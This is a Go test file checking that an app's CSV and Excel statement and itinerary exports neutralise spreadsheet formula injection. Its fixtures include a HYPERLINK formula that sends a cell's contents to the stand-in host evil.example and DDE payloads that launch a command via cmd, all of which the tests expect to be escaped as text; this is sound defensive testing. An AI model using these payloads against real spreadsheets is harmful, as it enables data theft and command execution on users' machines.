package docs

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/voyage/voyage/pkg/i18n"
)

const hyperlink = `=HYPERLINK("http://evil.example/?leak="&A1,"Click for your refund")`

func TestCSVCell(t *testing.T) {
	t.Parallel()
	tests := []struct{ in, want string }{
		{hyperlink, "'" + hyperlink},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"＝1+1", "'＝1+1"},
		{"-", "'-"},
		{"-12.50", "-12.50"}, // an amount stays a number
		{"-350", "-350"},
		{"12.50", "12.50"},
		{"-12.50abc", "'-12.50abc"},
		{"Blue Sky = best", "Blue Sky = best"},
		{"北京—伦敦", "北京—伦敦"},
		{"", ""},
	}
	for _, tt := range tests {
		if got := CSVCell(tt.in); got != tt.want {
			t.Errorf("CSVCell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// hostile is a statement whose people-typed texts are formulas.
func hostile(invoice bool) Statement {
	s := sample(i18n.EN, invoice)
	s.AgencyName = "@SUM(1+1)"
	s.Entries[0].Reference = hyperlink
	s.Entries[1].Description = "+cmd|' /C calc'!A0"
	return s
}

// TestCSVNeutralisesFormulas: the texts people typed reach the CSV as text,
// the amounts as numbers.
func TestCSVNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	var buf bytes.Buffer
	if err := WriteCSV(&buf, hostile(false)); err != nil {
		t.Fatal(err)
	}
	r := csv.NewReader(&buf)
	r.FieldsPerRecord = -1
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	first, last := rows[len(rows)-2], rows[len(rows)-1]
	if first[3] != "'"+hyperlink || last[4] != "'+cmd|' /C calc'!A0" {
		t.Errorf("formulas left live: %q / %q", first[3], last[4])
	}
	if last[5] != "-350.50" || last[6] != "849.50" {
		t.Errorf("amounts changed: %v", last)
	}
}

// TestXLSXWritesNoFormulas: the Excel exports (statement, itinerary) write
// people's texts as text cells, never as formulas.
func TestXLSXWritesNoFormulas(t *testing.T) {
	t.Parallel()
	var buf bytes.Buffer
	if err := WriteXLSX(&buf, hostile(true)); err != nil {
		t.Fatal(err)
	}
	checkNoFormulas(t, &buf, "Statement", hyperlink)

	ticket := sampleTicket(t, i18n.EN, true)
	ticket.Flight.Contact.Name = hyperlink
	ticket.Flight.Passengers[0].Surname = "=1+1"
	buf.Reset()
	if err := WriteTicket(&buf, Itinerary, XLSX, ticket); err != nil {
		t.Fatal(err)
	}
	checkNoFormulas(t, &buf, "", hyperlink)
}

func checkNoFormulas(t *testing.T, buf *bytes.Buffer, sheet, want string) {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if sheet == "" {
		sheet = f.GetSheetName(0)
	}
	rows, err := f.GetRows(sheet)
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for r, row := range rows {
		for c, v := range row {
			cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
			if formula, _ := f.GetCellFormula(sheet, cell); formula != "" {
				t.Errorf("%s %s holds the formula %q", sheet, cell, formula)
			}
			found = found || strings.Contains(v, want)
		}
	}
	if !found {
		t.Errorf("%s: the text %q is not in the workbook", sheet, want)
	}
}
